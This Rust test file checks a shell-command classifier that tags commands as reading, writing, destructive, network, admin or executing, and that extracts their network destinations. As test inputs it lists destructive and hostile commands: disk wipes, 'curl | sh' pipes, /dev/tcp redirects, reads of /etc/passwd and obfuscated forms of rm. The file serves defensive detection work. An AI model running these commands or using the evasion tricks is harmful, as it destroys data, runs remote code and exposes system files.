#![allow(clippy::unwrap_used, reason = "tests")]

use super::*;
use alloc::{format, string::ToString};

fn read(text: &str) -> Shell {
    let mut shell = Shell::default();
    shell.text(text);
    shell
}

fn letters(text: &str) -> String {
    let classes = read(text).classes;
    let all = [
        ('r', Classes::READ),
        ('w', Classes::WRITE),
        ('d', Classes::DESTRUCTIVE),
        ('n', Classes::NETWORK),
        ('a', Classes::ADMIN),
        ('x', Classes::EXECUTE),
    ];
    all.into_iter().filter(|(_, class)| classes.has(*class)).map(|(letter, _)| letter).collect()
}

#[test]
fn commands_by_class() {
    let mut wrong = Vec::new();
    for (text, want) in [
        ("", ""),
        ("# only a comment", ""),
        ("ls -la", "r"),
        ("cd /tmp && cat notes.txt | grep -i x | wc -l", "r"),
        ("/usr/bin/ls", "r"),
        ("echo 'rm -rf / > x'", "r"),
        ("grep 'curl http' file", "r"),
        ("find . -name '*.rs'", "r"),
        ("find . -delete", "rwd"),
        ("find . -exec rm {} \\;", "rwd"),
        ("find . -exec grep x {} +", "r"),
        ("sed -n 1,5p f", "r"),
        ("sed -i s/a/b/ f", "rw"),
        ("awk '{print $1}' f", "r"),
        ("awk 'BEGIN{system(\"id\")}'", "rwx"),
        ("echo hi > out.txt", "rw"),
        ("echo hi > /dev/null 2>&1", "r"),
        ("ls 2>/dev/null", "r"),
        ("> /dev/sda", "rwd"),
        ("cat x >| /dev/nvme0n1", "rwd"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "rwd"),
        ("dd if=a of=b", "rw"),
        ("mkfs.ext4 /dev/sdb1", "wd"),
        ("rm -rf /", "wd"),
        ("'r'm -rf x", "wd"),
        ("r\\m x", "wd"),
        ("$'\\x72\\x6d' x", "wd"),
        ("/bin/rm x", "wd"),
        ("cat${IFS}/etc/passwd", "r"),
        ("touch a; mkdir b", "w"),
        ("./ls", "wx"),
        ("/tmp/cat x", "wx"),
        ("my-tool --go", "wx"),
        ("sudo ls", "ra"),
        ("sudo -u root -- rm x", "wda"),
        ("chmod 777 x", "wa"),
        ("systemctl status nginx", "r"),
        ("systemctl stop nginx", "wa"),
        ("curl https://a.example", "n"),
        ("curl -sS -X POST https://a.example -d @f", "wn"),
        ("curl -o f https://a.example", "wn"),
        ("curl -X DELETE https://a.example/1", "wdn"),
        ("curl https://a.example | sh", "wnx"),
        ("bash <(curl -s https://a.example)", "wnx"),
        ("wget https://a.example", "wn"),
        ("wget -qO- https://a.example", "n"),
        ("git status", "r"),
        ("git push origin main", "wn"),
        ("git push --force origin main", "wdn"),
        ("git push origin +main", "wdn"),
        ("git -c core.pager=x log", "rwx"),
        ("kubectl get pods", "rn"),
        ("kubectl delete pod x", "wdn"),
        ("terraform plan", "rn"),
        ("terraform destroy -auto-approve", "wdn"),
        ("docker ps", "r"),
        ("docker run -v /:/host alpine", "wdax"),
        ("docker run --privileged alpine", "wdax"),
        ("aws s3 rm s3://b --recursive", "wdn"),
        ("aws s3 ls", "rn"),
        ("aws ec2 describe-instances", "rn"),
        ("aws ec2 terminate-instances --instance-ids i", "wdn"),
        ("psql -c 'drop table t'", "wdn"),
        ("psql -c 'select 1'", "rn"),
        ("ssh host 'rm -rf x'", "wdnx"),
        ("ssh host", "nx"),
        ("nc host.example 80", "wn"),
        ("cat f > /dev/tcp/host.example/80", "rwn"),
        ("exec 3<>/dev/tcp/host.example/80", "rwn"),
        ("python3 -c 'print(1)'", "wx"),
        ("python3 --version", "r"),
        ("bash -c 'rm x'", "wdx"),
        ("bash script.sh", "wx"),
        ("bash -lc 'ls'", "rx"),
        ("env A=1 B=2 rm x", "wd"),
        ("A=1 ls", "r"),
        ("LD_PRELOAD=./x.so ls", "rx"),
        ("ls | xargs rm", "rwd"),
        ("xargs -n 1 -I{} rm {}", "wd"),
        ("nohup nice -n 5 timeout 10 rm x &", "wd"),
        ("eval 'rm x'", "wdx"),
        ("eval \"$X\"", "rwdnx"),
        ("$X y", "rwdnx"),
        ("$(echo rm) y", "rwdnx"),
        ("echo $(rm x)", "rwd"),
        ("echo `rm x`", "rwd"),
        ("echo \"a $(rm x) b\"", "rwd"),
        ("echo ${X:-$(rm x)}", "rwd"),
        ("echo '$(rm x)'", "r"),
        ("(cd a; rm x)", "rwd"),
        ("{ rm x; } > log", "rwd"),
        ("if test -f x; then rm x; fi", "rwd"),
        ("for f in a b; do rm \"$f\"; done", "rwd"),
        ("while read l; do echo $l; done < f", "r"),
        ("case $x in a|b) rm x;; *) ls;; esac; touch y", "rwd"),
        ("f() { rm x; }; ls", "rwd"),
        ("[[ -f x && $y < z ]] && ls", "r"),
        ("(( i++ )); for ((i=0;i<3;i++)); do ls; done", "r"),
        ("cat <<EOF\nrm x\nEOF\nls", "r"),
        ("cat <<EOF\n$(rm x)\nEOF", "rwd"),
        ("cat <<'EOF'\n$(rm x)\nEOF", "r"),
        ("bash <<EOF\nrm x\nEOF", "wdx"),
        ("cat > f <<'EOF'\nunbalanced ' quote\nEOF", "rw"),
        ("bash <<< 'rm x'", "wdx"),
        ("npm install left-pad", "wnx"),
        ("Remove-Item -Recurse x", "wd"),
        ("Get-ChildItem", "r"),
        ("iwr https://a.example", "n"),
        ("iwr https://a.example | iex", "wnx"),
        ("del /q x", "wd"),
        ("cmd /c del x", "wdx"),
        ("powershell -enc abc", "rwdnx"),
        ("crontab -e", "wax"),
        ("sort -o out in", "rwx"),
        ("redis-cli flushall", "wdn"),
    ] {
        let got = letters(text);
        let sorted = |text: &str| {
            let mut all: Vec<char> = text.chars().collect();
            all.sort_unstable();
            all
        };
        if sorted(&got) != sorted(want) {
            wrong.push(format!("{text}: {got}, not {want}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_does_not_parse_reaches_and_destroys() {
    for text in
        ["echo 'open", "echo \"open", "echo $(open", "echo `open", "ls )", "( ls", "echo ${open", "case x", "ls >", "a ( b"]
    {
        let classes = read(text).classes;
        assert!(classes.has(Classes::NETWORK) && classes.has(Classes::DESTRUCTIVE), "{text}");
    }
}

#[test]
fn bounded() {
    for text in [
        "(",
        "$(",
        "\"${x:-",
        "`",
        "((",
        "<(",
        "$((",
        "bash -c '",
        "a://",
        "{ ",
        "if ",
        "echo ",
        "<<a ",
        "sudo --x ",
        "case x in ",
    ] {
        let classes = read(&[&*text.repeat(10_000), ";rm x"].concat()).classes;
        assert!(classes.has(Classes::DESTRUCTIVE), "{text}");
    }
    let nested = (0..9).fold("rm x".to_string(), |inner, _| format!("bash -c {}", quoted(&inner)));
    assert!(read(&nested).classes.has(Classes::DESTRUCTIVE));
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[test]
fn destinations() {
    let mut wrong = Vec::new();
    for (text, want) in [
        ("curl https://a.example/x?y", &["https://a.example/x?y"][..]),
        ("curl -sS -H 'X: y' -d data a.example:80/x", &["a.example:80/x"]),
        ("curl --max-time 0.5 --proxy p.example:1 a.example", &["a.example", "p.example:1"]),
        ("curl \"https://a.example/$X\"", &["https://a.example/\u{fffd}"]),
        ("curl \"https://$H/x\"", &[]),
        ("wget -O f b.example/x", &["b.example/x"]),
        ("scp -P 22 f user@h.example:/x", &["h.example"]),
        ("rsync -a d/ h.example:/x", &["h.example"]),
        ("ssh -p 22 -i key u@h.example uptime", &["h.example"]),
        ("git clone git@h.example:a/b.git", &["h.example"]),
        ("git remote add o https://h.example/a", &["https://h.example/a"]),
        ("nc -w 1 10.0.0.1 22", &["10.0.0.1"]),
        ("cat x > /dev/tcp/10.0.0.1/22", &["10.0.0.1:22"]),
        ("aws s3 cp f s3://bucket/x", &["s3://bucket/x"]),
        ("bash -c 'curl a.example'", &["a.example"]),
        ("echo x; $(curl a.example)", &["a.example"]),
        ("python -c 'get(\"http://10.0.0.1/x\")'", &["http://10.0.0.1/x"]),
    ] {
        let got = read(text).destinations;
        if got != want {
            wrong.push(format!("{text}: {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
